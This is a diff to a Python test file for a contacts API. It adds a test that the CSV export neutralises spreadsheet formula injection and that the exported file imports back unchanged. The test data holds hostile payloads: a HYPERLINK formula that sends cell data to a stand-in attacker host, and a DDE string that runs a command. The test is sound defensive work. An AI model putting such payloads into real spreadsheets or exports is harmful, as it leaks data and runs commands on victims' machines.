@@ -122,3 +122,41 @@ def test_export_needs_read_and_import_needs_write(
     assert client.get("/api/v1/exports/contacts", headers=viewer).status_code == 200
     response = client.post("/api/v1/imports", content=b"email\r\na@example.jp\r\n", headers=viewer)
     assert response.status_code == 403
+
+
+def test_formulas_in_profiles_are_quoted_for_spreadsheets_and_import_back_as_they_were(
+    tmp_path: Path,
+    runtime: Runtime,
+    workspace: Created,
+    client: TestClient,
+    admin_headers: dict[str, str],
+) -> None:
+    # Anyone with a site's write key can put a formula on a profile.
+    hostile = {
+        "link": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+        "dde": "+cmd|' /C calc'!A0",
+        "at": "@SUM(1+1)",
+        "minus": "-2+3",
+        "negative": "-5",
+        "phone_text": "+81 90-1234-5678",
+    }
+    created = client.post(
+        "/api/v1/contacts",
+        json={"email": "csv@example.jp", "traits": hostile},
+        headers=admin_headers,
+    )
+    assert created.status_code == 201, created.text
+    response = client.get("/api/v1/exports/contacts", headers=admin_headers)
+    [row] = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert row["link"] == "'" + hostile["link"]
+    assert row["dde"] == "'" + hostile["dde"]
+    assert row["at"] == "'@SUM(1+1)"
+    assert row["minus"] == "'-2+3"
+    assert (row["negative"], row["phone_text"]) == ("-5", "+81 90-1234-5678")  # not formulas
+
+    before = contacts(client, admin_headers)
+    path = tmp_path / "export.csv"
+    path.write_bytes(response.content)
+    again = import_file(runtime, workspace.workspace.id, path)
+    assert (again.updated, again.rejected) == (1, 0)
+    assert contacts(client, admin_headers)[0]["traits"] == before[0]["traits"]
